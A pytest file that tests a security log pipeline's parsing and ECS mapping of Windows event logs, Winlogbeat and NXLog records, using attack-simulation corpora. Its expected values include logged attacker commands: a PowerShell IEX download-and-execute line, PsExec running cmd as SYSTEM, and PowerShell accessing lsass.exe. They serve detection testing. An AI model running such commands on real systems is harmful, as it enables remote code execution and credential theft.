"""Windows event logs (.evtx): every corpus file parses without dead letters, values are exactly what the
``evtx`` package reads, the ECS mapping of the common event ids, and broken files are dead-lettered."""

from __future__ import annotations

import gzip
import json
from pathlib import Path

import polars as pl
import pytest

from soc import pipeline
from soc.parse.spec import load_spec
from soc.sources import discover
from tests.conftest import ROOT, Keep

evtx = pytest.importorskip("evtx")

SPEC = load_spec(ROOT / "parsers" / "windows_evtx.yml")
SPECS = {SPEC.name: SPEC}
SYSMON = "Microsoft-Windows-Sysmon/Operational"


def parse(paths: list[Path | str], specs=SPECS) -> tuple[list[pipeline.SourceStats], dict, pl.DataFrame | None]:
    keep = Keep()
    stats = pipeline.run(discover([str(p) for p in paths]), keep, specs=specs)
    frames = {k: pl.concat(v, how="diagonal_relaxed") for k, v in keep.frames.items()}
    return stats, frames, pl.concat(keep.dead) if keep.dead else None


def evtx_files(root: Path) -> list[Path]:
    return sorted(root.rglob("*.evtx"))


def record(frames: dict, dataset: str, record_id: int) -> dict:
    frame = frames[("windows", dataset)]
    rows = frame.filter(pl.col("log.line") == record_id)  # the record number in the file
    assert rows.height == 1, f"{dataset} record {record_id}: {rows.height} rows"
    return rows.row(0, named=True)


def as_text(value) -> str | None:
    """A value of the evtx package's JSON as the text the frames hold: never JSON; a list its values one
    per line, an object its members one per line as ``name=text`` (``#attributes`` without its name)."""
    if value is None or isinstance(value, str):
        return value
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, dict) and "#text" in value:
        return as_text(value["#text"])
    if isinstance(value, int | float):
        return str(value)
    if isinstance(value, list):
        return "\n".join(as_text(v) for v in value if v is not None)
    return "\n".join(as_text(v) if k == "#attributes" else f"{k}={as_text(v)}" for k, v in value.items()
                     if v is not None)


def field_text(value) -> str:
    """An EventData field's text: an element without content (null in the package's JSON) is empty."""
    return "" if value is None else as_text(value)


# (a) acceptance: every file of the ATT&CK corpus, zero dead letters

def test_every_attack_corpus_file_parses_without_dead_letters(corpora):
    files = evtx_files(corpora / "evtx" / "evtx-to-mitre-attack")
    assert len(files) == 281
    stats, frames, dead = parse(files)
    assert len(stats) == len(files)
    for st in stats:
        assert st.error is None, (st.path, st.error)
        assert st.format == "windows_evtx", st.path
        assert st.dead == 0, (st.path, dead.filter(pl.col("log.file.path") == st.path).head(3) if dead is not None
                              else None)
        assert st.read == st.parsed > 0, st.path
    total = sum(st.read for st in stats)
    assert total == sum(f.height for f in frames.values()) == 10_015
    for (family, dataset), frame in frames.items():
        assert family == "windows"
        assert frame["@timestamp"].null_count() == 0, dataset
        assert frame["winlog.event_id"].n_unique() == 1, dataset  # one event id per frame


# (b) values are exactly what the evtx package reads (the .evtx is the truth, not the trimmed .json copies)

def test_sigma_regression_values_equal_the_evtx_content(corpora):
    files = evtx_files(corpora / "sigma" / "regression_data")
    assert len(files) >= 150
    checked = 0
    for path in files:
        stats, frames, dead = parse([path])
        assert stats[0].dead == 0 and stats[0].error is None, (path, stats[0].error, dead)
        by_id = {}
        for frame in frames.values():
            for row in frame.iter_rows(named=True):
                by_id[(row["winlog.channel"], row["winlog.record_id"])] = row
        for rec in evtx.PyEvtxParser(str(path)).records_json():
            event = json.loads(rec["data"])["Event"]
            system = event["System"]
            eid = system["EventID"]
            eid = int(eid["#text"] if isinstance(eid, dict) else eid)
            row = by_id[(system.get("Channel"), int(system["EventRecordID"]))]
            assert row["winlog.event_id"] == eid
            assert row["host.hostname"] == system["Computer"]
            assert row["winlog.provider_name"] == system["Provider"]["#attributes"]["Name"]
            data = event.get("EventData") or {}
            if "EventData" not in event and event.get("UserData"):
                (data,) = event["UserData"].values()
            for name, value in (data or {}).items():
                if name == "#attributes":
                    continue
                column = name if name in row and not name.startswith(("winlog.", "event.")) else \
                    f"winlog.event_data.{name}"
                assert row[column] == field_text(value), (path.name, name)
                checked += 1
    assert checked > 1000


def test_trailing_whitespace_is_kept(corpora):
    path = next((corpora / "evtx" / "evtx-to-mitre-attack").rglob("ID4624,4688,5140,5145-Eternal Romance*.evtx"))
    _, frames, _ = parse([path])
    row = record(frames, "windows.security.4624", 4)
    assert row["LogonProcessName"] == "NtLmSsp "


# (c) ECS mapping of the listed event ids, on real records

ATTACK = "evtx/evtx-to-mitre-attack/"
CASES = [
    # Security
    ("EVTX_full_APT_attack_steps/ID4624,4688,5140,5145-Eternal Romance - MS17_010_psexec (GLOBAL).evtx",
     "windows.security.4624", 4,
     {"user.name": "admmig", "user.domain": "OFFSEC", "source.ip": "10.23.123.11", "source.port": 41747,
      "process.pid": 0, "process.executable": None, "event.action": "logged-in", "event.outcome": "success",
      "event.category": "authentication", "winlog.logon.type": "3", "event.code": "4624",
      "winlog.event_id": 4624, "winlog.channel": "Security", "TargetUserName": "admmig", "LogonType": "3",
      "IpPort": "41747", "ProcessName": "-", "WorkstationName": "0Konuy9q8HtkWeKS"}),
    ("TA0001-Initial access/T1078-Valid accounts/ID4625-failed login with denied access due to account "
     "restriction.evtx", "windows.security.4625", 1,
     {"user.name": None, "source.ip": "10.23.23.9", "source.port": 0, "process.pid": 0x1310,
      "process.executable": "C:\\Windows\\System32\\winlogon.exe", "event.action": "logon-failed",
      "event.outcome": "failure", "Status": "0xc000006e", "SubjectUserName": "FS03$", "TargetUserName": "-"}),
    ("TA0004-Privilege Escalation/T1134-Access Token Manipulation/ID4648-4624-RunAsCS login.evtx",
     "windows.security.4648", 2,
     {"user.name": "admmig", "user.domain": "OFFSEC", "user.target.name": "test10", "source.ip": None,
      "source.port": None, "process.pid": 0x9D0, "event.action": "logged-in-explicit",
      "process.executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "TargetServerName": "localhost", "IpAddress": "-"}),
    ("EVTX_full_APT_attack_steps/ID4624,4688,5140,5145-Eternal Romance - MS17_010_psexec (GLOBAL).evtx",
     "windows.security.4672", 3,
     {"user.name": "admmig", "user.domain": "OFFSEC", "event.action": "logged-in-special",
      "PrivilegeList": "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\t"
                       "SeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege"
                       "\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeImpersonatePrivilege"}),
    ("EVTX_full_APT_attack_steps/ID4624,4688,5140,5145-Eternal Romance - MS17_010_psexec (GLOBAL).evtx",
     "windows.security.4688", 11,
     {"user.name": "FS03VULN$", "user.domain": "OFFSEC", "process.executable": "C:\\Windows\\System32\\cmd.exe",
      "process.pid": 0x6E8, "process.parent.pid": 0x1D0, "event.action": "created-process",
      "event.category": "process", "NewProcessName": "C:\\Windows\\System32\\cmd.exe", "NewProcessId": "0x6e8"}),
    ("EVTX_full_APT_attack_steps/ID4720,4698-Fortinet APT group abuse on Windows.evtx", "windows.security.4720", 1,
     {"user.name": "admmig", "user.domain": "OFFSEC", "user.target.name": "WADGUtilityAccount",
      "user.target.domain": "FS01", "event.action": "added-user-account", "SamAccountName": "WADGUtilityAccount",
      "PrimaryGroupId": "513"}),
    ("TA0003-Persistence/T1098.xxx-Account manipulation/ID4732-4733-Quick added-removed user from local group.evtx",
     "windows.security.4732", 1,
     {"user.name": "admmig", "group.name": "Users", "group.domain": "Builtin", "user.target.name": None,
      "event.action": "added-member-to-group", "MemberSid": "S-1-5-21-1470532092-3758209836-3742276719-1001",
      "MemberName": "-"}),
    # Sysmon
    ("EVTX_full_APT_attack_steps/ID11,13,17,18-PSexec as system execution.evtx", "windows.sysmon.1", 1,
     {"process.executable": "C:\\TOOLS\\PsExec64.exe", "process.command_line": "PsExec64.exe  -i -s cmd",
      "process.pid": 2124, "user.name": "admmig", "user.domain": "OFFSEC", "event.action": "process-created",
      "winlog.channel": SYSMON, "winlog.event_id": 1, "Image": "C:\\TOOLS\\PsExec64.exe",
      "CommandLine": "PsExec64.exe  -i -s cmd", "User": "OFFSEC\\admmig", "ProcessId": "2124",
      "TerminalSessionId": "2", "LogonId": "0x83ef56"}),
    ("TA0002-Execution/T1047-Windows Management Instrumentation/ID3-7-10-Suspicious DLL loaded (CME+Mimikatz).evtx",
     "windows.sysmon.3", 3,
     {"source.ip": "10.23.42.38", "source.port": 62095, "destination.ip": "10.23.123.11", "destination.port": 443,
      "process.pid": 2668, "network.transport": "tcp", "destination.domain": None, "event.action": "network-connection",
      "process.executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
      "Initiated": "true", "SourceIsIpv6": "false", "DestinationPort": "443", "DestinationHostname": "-"}),
    ("TA0002-Execution/T1047-Windows Management Instrumentation/ID3-7-10-Suspicious DLL loaded (CME+Mimikatz).evtx",
     "windows.sysmon.7", 1,
     {"file.path": "C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\"
                   "287ded39f444f2847a5175b4bf51f9c9\\System.Management.Automation.ni.dll",
      "process.pid": 2668, "event.action": "image-loaded", "OriginalFileName": "System.Management.Automation.dll"}),
    ("TA0002-Execution/T1047-Windows Management Instrumentation/ID3-7-10-Suspicious DLL loaded (CME+Mimikatz).evtx",
     "windows.sysmon.10", 4,
     {"process.executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "process.pid": 2668,
      "process.target.executable": "C:\\Windows\\system32\\lsass.exe", "process.target.pid": 480,
      "event.action": "process-accessed", "GrantedAccess": "0x143a", "TargetImage": "C:\\Windows\\system32\\lsass.exe",
      "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+90eaa|C:\\Windows\\system32\\KERNELBASE.dll+2e5e|"
                   "UNKNOWN(000000CDD65B2A68)"}),
    ("EVTX_full_APT_attack_steps/ID11,13,17,18-PSexec as system execution.evtx", "windows.sysmon.11", 3,
     {"file.path": "C:\\Windows\\PSEXESVC.exe", "process.executable": "C:\\TOOLS\\PsExec64.exe", "process.pid": 2124,
      "event.action": "file-created", "TargetFilename": "C:\\Windows\\PSEXESVC.exe"}),
    ("EVTX_full_APT_attack_steps/ID11,13,17,18-PSexec as system execution.evtx", "windows.sysmon.13", 2,
     {"registry.path": "HKU\\S-1-5-21-4230534742-2542757381-3142984815-1111\\Software\\Sysinternals\\PsExec\\"
                       "EulaAccepted",
      "registry.data.strings": "DWORD (0x00000001)", "event.action": "registry-value-set", "EventType": "SetValue"}),
    ("EVTX_full_APT_attack_steps/ID11,13,17,18-PSexec as system execution.evtx", "windows.sysmon.22", 15,
     {"dns.question.name": "fs03vuln", "process.executable": "C:\\TOOLS\\PsExec64.exe", "event.action": "dns-query",
      "QueryName": "fs03vuln", "QueryResults": "10.23.42.38;", "QueryStatus": "0"}),
    # PowerShell script blocks
    ("TA0002-Execution/T1059.001-PowerShell/ID4103-4104-Payload download via PowerShell.evtx",
     "windows.powershell.4104", 1,
     {"powershell.file.script_block_text": "\"IEX(New-Object Net.WebClient).downloadString('https://miro.medium.com/"
                                           "max/1400/1*FnPDYeZVrGTbuE7Lj7JhgQ.png')\"",
      "powershell.file.script_block_id": "965150b4-b107-4cce-9d30-1d3c55a8a085", "powershell.sequence": 1,
      "event.action": "execute-script-block", "MessageNumber": "1", "MessageTotal": "1",
      "winlog.channel": "Microsoft-Windows-PowerShell/Operational"}),
]


@pytest.mark.parametrize(("file", "dataset", "record_id", "expected"), CASES,
                         ids=[c[1] for c in CASES])
def test_ecs_mapping_of_real_records(corpora, file, dataset, record_id, expected):
    _, frames, dead = parse([corpora / ATTACK / file])
    assert dead is None
    row = record(frames, dataset, record_id)
    got = {k: row[k] for k in expected}
    assert got == expected
    assert row["event.dataset"] == dataset.rsplit(".", 1)[0]
    assert row["log.line"] == record_id and row["log.file.path"].endswith(Path(file).name)


def test_mapping_of_logoff_and_lockout():
    """4634 and 4740 are in no corpus file: the mapping is checked on their documented fields."""
    from soc.parse.columns import Context
    from soc.parse.windows import mapping_of

    mapping = mapping_of(SPEC)
    base = {"System.Channel": ["Security"], "System.TimeCreated": ["2024-03-01T10:00:00.1234567Z"],
            "System.Computer": ["DC01.corp.local"], "System.Provider": ["Microsoft-Windows-Security-Auditing"],
            "System.EventRecordID": ["77"]}
    origin = {"log.file.path": pl.Series(["x.evtx"], dtype=pl.Categorical), "log.line": pl.Series([77])}
    logoff = pl.DataFrame({**base, "System.EventID": ["4634"], "TargetUserName": ["bob "],
                           "TargetDomainName": ["CORP"], "LogonType": ["3"]})
    frame, why = mapping.typed(logoff, ["TargetUserName", "TargetDomainName", "LogonType"], "Security", "4634",
                               Context("x.evtx"), origin)
    row = frame.row(0, named=True)
    assert why.null_count() == 1
    assert (row["user.name"], row["user.domain"], row["event.action"], row["TargetUserName"]) == \
        ("bob ", "CORP", "logged-out", "bob ")
    assert str(row["@timestamp"]) == "2024-03-01 10:00:00.123456+00:00"
    lockout = pl.DataFrame({**base, "System.EventID": ["4740"], "TargetUserName": ["alice"],
                            "TargetDomainName": ["WKS07"], "SubjectUserName": ["DC01$"], "SubjectDomainName": ["CORP"]})
    frame, _ = mapping.typed(lockout, ["TargetUserName", "TargetDomainName", "SubjectUserName", "SubjectDomainName"],
                             "Security", "4740", Context("x.evtx"), origin)
    row = frame.row(0, named=True)
    assert (row["user.name"], row["user.target.name"], row["event.action"], row["winlog.event_id"]) == \
        ("DC01$", "alice", "locked-out-user-account", 4740)


# broken inputs: dead-lettered with a reason, never a crash

SMALL = ATTACK + ("TA0002-Execution/T1569.002-Service execution/"
                  "ID7000,7009,7045-Payload deployed via service - Tchopper.evtx")


def test_truncated_file_dead_letters_the_lost_records(corpora, tmp_path):
    data = (corpora / SMALL).read_bytes()
    whole, _, _ = parse([corpora / SMALL])
    cut = tmp_path / "cut.evtx"
    cut.write_bytes(data[: 4096 + 65536 + 30_000])  # the second chunk ends half-way
    (st,), frames, dead = parse([cut])
    assert st.error is None
    assert st.read == st.parsed + st.dead
    assert st.parsed == 97 and st.dead > 0
    assert st.read <= whole[0].read
    assert dead["error.message"].str.contains("truncated").all()
    assert (dead["event.original"].bin.size() > 0).any()  # the record's bytes as far as the file has them
    assert dead["log.line"].is_unique().all()


def test_corrupt_chunk_is_dead_lettered_with_the_parser_reason(corpora, tmp_path):
    data = bytearray((corpora / SMALL).read_bytes())
    data[4096 + 65536 + 2000: 4096 + 65536 + 2600] = b"\xff" * 600
    bad = tmp_path / "bad.evtx"
    bad.write_bytes(bytes(data))
    (st,), _, dead = parse([bad])
    assert st.error is None and st.read == st.parsed + st.dead
    assert st.dead == 96  # records 98..193, the chunk the evtx package skipped
    assert dead["error.message"].str.contains("Failed to parse chunk").all()


def test_not_an_evtx_file_is_one_dead_letter(tmp_path):
    fake = tmp_path / "fake.evtx"
    fake.write_bytes(b"ElfFile\x00" + b"\x00" * 100)
    (st,), frames, dead = parse([fake])
    assert st.error is None and (st.read, st.dead, st.parsed) == (1, 1, 0)
    assert "not a readable EVTX file" in dead["error.message"][0]


def test_text_forced_as_evtx_is_dead_lettered(tmp_path):
    text = tmp_path / "t.log"
    text.write_bytes(b"hello\nworld\n")
    keep = Keep()
    (st,) = pipeline.run(discover([str(text)]), keep, pipeline.Options(format="windows_evtx"), specs=SPECS)
    assert (st.read, st.dead) == (1, 1)  # the input is one unreadable file, not records


def test_gzipped_evtx_is_sniffed_and_read(corpora, tmp_path):
    src = corpora / SMALL
    gz = tmp_path / "s.evtx.gz"
    gz.write_bytes(gzip.compress(src.read_bytes()))
    (plain,), frames_a, _ = parse([src])
    (st,), frames_b, _ = parse([gz])
    assert st.format == "windows_evtx" and st.dead == 0 and st.read == plain.read
    assert set(frames_a) == set(frames_b)


def test_sniffed_among_every_spec(corpora):
    from soc.parse.spec import load_specs

    stats, _, _ = parse([corpora / SMALL], specs=load_specs())
    assert stats[0].format == "windows_evtx" and stats[0].dead == 0


def test_small_batches_give_the_same_frames(corpora):
    """Records split over many batches (and groups over batches) give the same rows as one batch."""
    import dataclasses

    path = corpora / ATTACK / CASES[0][0]
    small = dataclasses.replace(SPEC, options={**SPEC.options, "batch": 7})
    (one,), frames_one, _ = parse([path])
    (many,), frames_many, _ = parse([path], specs={SPEC.name: small})
    assert one.read == many.read == many.parsed and many.dead == 0
    assert set(frames_one) == set(frames_many)
    for key, frame in frames_one.items():
        other = frames_many[key].select(frame.columns)
        assert frame.sort("log.line").equals(other.sort("log.line")), key


def test_parquet_sink_keeps_every_group_and_column(corpora, tmp_path):
    from soc.sinks.parquet import ParquetSink, read_family

    path = corpora / SMALL
    (st,) = pipeline.run(discover([str(path)]), ParquetSink(tmp_path), specs=SPECS)
    assert st.dead == 0
    frame = read_family(tmp_path, "windows").collect()
    assert frame.height == st.read
    assert {"winlog.event_id", "ServiceName", "ImagePath", "param1"} <= set(frame.columns)


def test_parquet_sink_takes_columns_that_change_between_chunks(tmp_path):
    from soc.sinks.parquet import ParquetSink, read_family

    sink = ParquetSink(tmp_path)
    for frame in (pl.DataFrame({"a": [1], "b": ["x"]}), pl.DataFrame({"a": [2]}),
                  pl.DataFrame({"a": [3], "c": ["new"]}), pl.DataFrame({"a": [4], "c": ["again"]})):
        sink.write("/logs/Security.evtx", "windows", "windows.security.4624", frame)
    sink.close_source("/logs/Security.evtx")
    sink.close()
    got = read_family(tmp_path, "windows").collect().sort("a")
    assert got["a"].to_list() == [1, 2, 3, 4]
    assert got["b"].to_list() == ["x", None, None, None] and got["c"].to_list() == [None, None, "new", "again"]


# Winlogbeat and NXLog JSON lines: routed and mapped like the EVTX files

WINLOGBEAT = (
    '{"@timestamp":"2024-03-01T03:00:00.123Z","event":{"code":"4624"},"winlog":{"channel":"Security",'
    '"event_id":4624,"provider_name":"Microsoft-Windows-Security-Auditing","record_id":987,'
    '"computer_name":"DC01.corp.local","event_data":{"TargetUserName":"bob ","TargetDomainName":"CORP",'
    '"IpAddress":"10.0.0.5","IpPort":"50123","LogonType":"3","ProcessId":"0x1f4",'
    '"ProcessName":"C:\\\\Windows\\\\System32\\\\lsass.exe"},"process":{"pid":640,"thread":{"id":700}}}}\n'
    '{"@timestamp":"2024-03-01T03:00:01Z","winlog":{"channel":"Microsoft-Windows-Sysmon/Operational",'
    '"event_id":"1","provider_name":"Microsoft-Windows-Sysmon","record_id":5,"computer_name":"WS1",'
    '"event_data":{"Image":"C:\\\\x.exe","CommandLine":"x.exe -a ","ProcessId":"42","User":"CORP\\\\alice"}}}\n'
    '{"@timestamp":"2024-03-01T03:00:01Z","winlog":{"channel":"Security","event_id":4625\n'
    'not json at all\n'
)
NXLOG = (
    '{"EventTime":"2024-03-01 10:00:00","Hostname":"DC01.corp.local","Keywords":-9214364837600034816,'
    '"EventType":"AUDIT_SUCCESS","SeverityValue":2,"Severity":"INFO","EventID":4688,'
    '"SourceName":"Microsoft-Windows-Security-Auditing","Version":2,"Task":13312,"RecordNumber":12345,'
    '"Channel":"Security","Message":"A new process has been created.","SubjectUserName":"alice",'
    '"SubjectDomainName":"CORP","NewProcessId":"0x1a2b","NewProcessName":"C:\\\\Windows\\\\System32\\\\cmd.exe",'
    '"CommandLine":"cmd.exe /c whoami ","ParentProcessName":"C:\\\\Windows\\\\explorer.exe","ProcessId":"0x10",'
    '"EventReceivedTime":"2024-03-01 10:00:01","SourceModuleName":"eventlog","SourceModuleType":"im_msvistalog"}\n'
)


def test_winlogbeat_lines():
    from tests.conftest import parse_text

    res = parse_text("winlogbeat", WINLOGBEAT)
    assert (res.lines, res.parsed, res.dead.height) == (4, 2, 2)
    assert res.dead["error.message"].to_list() == ["truncated JSON object", "not a JSON object"]
    assert res.dead["log.line"].to_list() == [3, 4]
    logon = res.frames[("windows", "windows.security.4624")].row(0, named=True)
    assert {k: logon[k] for k in ("user.name", "user.domain", "source.ip", "source.port", "process.pid",
                                  "event.action", "winlog.record_id", "host.hostname", "TargetUserName",
                                  "ProcessId", "winlog.process.pid")} == {
        "user.name": "bob ", "user.domain": "CORP", "source.ip": "10.0.0.5", "source.port": 50123,
        "process.pid": 0x1F4, "event.action": "logged-in", "winlog.record_id": 987,
        "host.hostname": "DC01.corp.local", "TargetUserName": "bob ", "ProcessId": "0x1f4", "winlog.process.pid": 640}
    assert str(logon["@timestamp"]) == "2024-03-01 03:00:00.123000+00:00"
    proc = res.frames[("windows", "windows.sysmon.1")].row(0, named=True)
    assert (proc["process.command_line"], proc["user.name"], proc["user.domain"], proc["CommandLine"]) == \
        ("x.exe -a ", "alice", "CORP", "x.exe -a ")


def test_nxlog_lines():
    from tests.conftest import parse_text

    res = parse_text("nxlog_windows", NXLOG + "{\"EventID\": 4688, \"Channel\": \"Security\"\n")
    assert (res.lines, res.parsed, res.dead.height) == (2, 1, 1)
    row = res.frames[("windows", "windows.security.4688")].row(0, named=True)
    assert {k: row[k] for k in ("user.name", "process.executable", "process.command_line", "process.pid",
                                "process.parent.executable", "process.parent.pid", "winlog.record_id",
                                "event.dataset", "CommandLine", "NewProcessId")} == {
        "user.name": "alice", "process.executable": "C:\\Windows\\System32\\cmd.exe",
        "process.command_line": "cmd.exe /c whoami ", "process.pid": 0x1A2B,
        "process.parent.executable": "C:\\Windows\\explorer.exe", "process.parent.pid": 0x10,
        "winlog.record_id": 12345, "event.dataset": "windows.security", "CommandLine": "cmd.exe /c whoami ",
        "NewProcessId": "0x1a2b"}
    assert "Message" not in row and "SourceModuleName" not in row  # NXLog's own fields are not EventData
    assert str(row["@timestamp"]) == "2024-03-01 03:00:00+00:00"  # 10:00 in Ho Chi Minh City


def test_json_lines_are_sniffed():
    from soc.parse.spec import load_specs
    from soc.sources.sniff import sniff

    signatures = [s.signature for s in load_specs().values()]
    assert sniff(WINLOGBEAT.encode(), signatures) == "winlogbeat"
    assert sniff(NXLOG.encode(), signatures) == "nxlog_windows"


# the Numba walker of the evtx package's record JSON (soc.parse.evtx_kernel)

def _walk(records: list[str]):
    import numpy as np
    import pyarrow as pa

    from soc.parse import evtx_kernel as K

    text = pa.array(records, pa.large_string())
    offs = np.frombuffer(text.buffers()[1], np.int64, len(records) + 1)
    buf = np.frombuffer(text.buffers()[2] or pa.py_buffer(b""), np.uint8)
    w = K.walk_batch(buf, offs)

    def span(a: int, b: int) -> str | None:
        if a < 0:
            return None
        return (bytes(buf[a:b]) if a < buf.size else bytes(w.extra[a - buf.size: b - buf.size])).decode()

    fields: list[dict] = [{} for _ in records]
    for row in w.fields:
        r, ns, ne, _, vs, ve, kind = (int(x) for x in row)
        fields[r].setdefault(bytes(buf[ns:ne]).decode(), None if kind == K.NULL else span(vs, ve))
    system = [{name: span(int(w.ss[i, r]), int(w.se[i, r])) for i, name in enumerate(K.SYSTEM_NAMES)}
              for r in range(len(records))]
    return w, system, fields


def _record(data: str, system: str = '"EventID":4688,"Channel":"Security","Computer":"PC1"') -> str:
    return ('{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},'
            '"System":{' + system + '},' + data + '}}')


def test_walker_unescapes_strings_and_keeps_unicode():
    rec = _record('"EventData":{"CommandLine":"\\"C:\\\\Windows\\\\cmd.exe\\" /c \\u00e9\\ud83d\\ude00 x\\t",'
                  '"User":"NT AUTHORITY\\\\SYSTEM","Name":"Nguyễn Văn A ","Empty":""}')
    w, system, fields = _walk([rec])
    assert w.err.tolist() == [0]
    assert fields[0] == {"CommandLine": '"C:\\Windows\\cmd.exe" /c \u00e9\U0001F600 x\t',
                         "User": "NT AUTHORITY\\SYSTEM", "Name": "Nguyễn Văn A ", "Empty": ""}
    assert fields[0] == {k: as_text(v) for k, v in json.loads(rec)["Event"]["EventData"].items()}
    assert (system[0]["System.EventID"], system[0]["System.Channel"], system[0]["System.Provider"]) == \
        ("4688", "Security", None)


def test_walker_system_attributes_text_and_odd_event_ids():
    system = ('"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing","Guid":"{5484}"}},'
              '"EventID":{"#attributes":{"Qualifiers":16384},"#text":7045},"Version":0,"Level":4,'
              '"TimeCreated":{"#attributes":{"SystemTime":"2021-10-27T10:34:49.837376Z"}},"EventRecordID":127530,'
              '"Correlation":null,"Execution":{"#attributes":{"ProcessID":4,"ThreadID":2204}},'
              '"Channel":"System","Computer":"FS03","Security":{"#attributes":{"UserID":"S-1-5-18"}}')
    odd = '"EventID":"x12","Channel":"System"'
    w, sys_, _ = _walk([_record('"EventData":null', system), _record('"EventData":{}', odd)])
    assert w.err.tolist() == [0, 0]
    got = sys_[0]
    assert (got["System.Provider"], got["System.ProviderGuid"], got["System.EventID"], got["System.Qualifiers"],
            got["System.Version"], got["System.TimeCreated"], got["System.ProcessID"], got["System.ThreadID"],
            got["System.UserID"], got["System.ActivityID"]) == \
        ("Microsoft-Windows-Security-Auditing", "{5484}", "7045", "16384", "0",
         "2021-10-27T10:34:49.837376Z", "4", "2204", "S-1-5-18", None)
    assert sys_[1]["System.EventID"] is None  # not digits: no event id (the record is dead-lettered later)
    assert w.starts.size == 3  # two groups: (System, 7045) and (System, none)


def test_walker_nested_userdata_lists_objects_and_empty_eventdata():
    user = _record('"UserData":{"LogFileCleared":{"#attributes":{"xmlns":"http://x"},"SubjectUserName":"bob",'
                   '"SubjectLogonId":"0x1","Count":3,"Flag":true,"Gone":null}}')
    flat = _record('"UserData":{"A":"1","B":{"C":"2"}}')  # two children: the fields are UserData's own
    data = _record('"EventData":{"Data":{"#text":["a","b\\"c"]},"Binary":{"#attributes":{"Length":"2"}},'
                   '"Attr":{"#attributes":{"k":"v"},"#text":"the text "},"List":[1,{"x":null}]}')
    empty = _record('"EventData":{}')
    w, _, fields = _walk([user, flat, data, empty])
    assert w.err.tolist() == [0, 0, 0, 0]
    assert fields[0] == {"SubjectUserName": "bob", "SubjectLogonId": "0x1", "Count": "3", "Flag": "true",
                         "Gone": ""}  # an element without content is empty, not absent
    assert fields[1] == {"A": "1", "B": "C=2"}
    assert fields[2] == {"Data": 'a\nb"c', "Binary": "Length=2", "Attr": "the text ", "List": "1\n"}
    assert fields[2] == {k: as_text(v) for k, v in json.loads(data)["Event"]["EventData"].items()}
    assert fields[3] == {}


def test_walker_sends_what_it_cannot_take_to_the_slow_path():
    from soc.parse import evtx_kernel as K

    good = _record('"EventData":{"A":"1"}')
    bad = [
        good[:-3],  # truncated
        _record('"EventData":{"A":"bad \\x escape"}'),
        _record('"EventData":{"A":"\\ud800 lone surrogate"}'),
        _record('"EventData":{"A":"raw \x01 control"}'),
        _record('"EventData":{"A" "1"}'),
        _record('"EventData":{"A":01}'),
        _record('"EventData":{"A\\u0042":"escaped name"}'),
        '{"NotEvent":{}}',
        good + " trailing",
        "",
    ]
    w, _, fields = _walk([good, *bad, good])
    assert w.err[0] == 0 and w.err[-1] == 0
    assert (w.err[1:-1] != 0).all()
    assert w.err[7] == K.E_NAME and w.err[8] == K.E_SHAPE
    assert fields[0] == fields[-1] == {"A": "1"} and all(f == {} for f in fields[1:-1])
    assert sorted(w.order.tolist()) == [0, len(bad) + 1]  # records in error are in no group


def test_odd_records_go_the_slow_way_or_to_dead_letters(corpora):
    """A record the walker refuses is decoded by Polars (or dead-lettered with the reason), never dropped."""
    import numpy as np
    import pyarrow as pa

    from soc.parse.columns import Context
    from soc.parse.engines.evtx import EvtxEngine

    engine = EvtxEngine(SPEC, Context("x.evtx"))
    good = _record('"EventData":{"A":"1 "}', '"EventID":4688,"Channel":"Security","TimeCreated":'
                   '{"#attributes":{"SystemTime":"2024-03-01T10:00:00Z"}},"Computer":"PC1"')
    escaped_name = good.replace('"A":', '"\\u0041":')  # valid JSON the walker leaves to Polars
    broken = good[:-5]
    res = engine._batch(pa.array([good, escaped_name, broken], pa.large_string()), np.array([1, 2, 3]),
                        pa.array(["2024-03-01 10:00:00 UTC"] * 3))
    assert res.lines == 3
    frame = res.frames[("windows", "windows.security.4688")]
    assert sorted(frame["log.line"].to_list()) == [1, 2]
    assert frame.sort("log.line")["A"].to_list() == ["1 ", "1 "]
    assert res.dead["log.line"].to_list() == [3]
    assert "does not decode" in res.dead["error.message"][0]
    assert res.dead["event.original"][0] == broken.encode()


def test_walker_goes_on_when_its_field_table_is_full():
    import numpy as np
    import pyarrow as pa

    from soc.parse import evtx_kernel as K

    records = [_record('"EventData":{' + ",".join(f'"F{i}":"{r}.{i}"' for i in range(3)) + "}") for r in range(5)]
    text = pa.array(records, pa.large_string())
    offs = np.frombuffer(text.buffers()[1], np.int64, 6)
    buf = np.frombuffer(text.buffers()[2], np.uint8)
    t = K.SYSTEM_TABLE
    args = (np.empty(buf.size, np.uint8), 0, 4, *(np.full((len(K.SYSTEM_NAMES), 5), -1, np.int64) for _ in "ab"),
            np.zeros(5, np.int8), t.slots, t.hashes, t.mask, t.bytes, t.offsets)
    fields, _, stop = K.walk(buf, offs, 0, 5, *args)
    assert (stop, fields.shape[0]) == (1, 3)  # a second record would not fit: stops before it
    w, _, got = _walk(records)
    assert got == [{f"F{i}": f"{r}.{i}" for i in range(3)} for r in range(5)]


# --- large files in pieces: worker processes read chunk ranges, this process parses them ---

MANY_CHUNKS = ATTACK + ("TA0005-Defense Evasion/T1562.004-Impair Defenses-Disable or Modify System Firewall/"
                        "ID4688-5447-4950-Firewall disabled (command).evtx")  # 43 chunks, 998 records


@pytest.fixture()
def in_pieces(monkeypatch):
    """Files cut in pieces of ~20 records (batches of 40), read by two worker processes."""
    import dataclasses

    from soc.parse.engines import evtx as engine

    monkeypatch.setattr(engine, "MIN_PIECE", 1)
    monkeypatch.setenv(engine.PROCESSES_ENV, "3")
    small = dataclasses.replace(SPEC, options={**SPEC.options, "batch": 40})
    return {SPEC.name: small}


def _same(a: tuple, b: tuple) -> None:
    (sa, fa, da), (sb, fb, db) = a, b
    assert [(s.read, s.parsed, s.dead) for s in sa] == [(s.read, s.parsed, s.dead) for s in sb]
    assert set(fa) == set(fb)
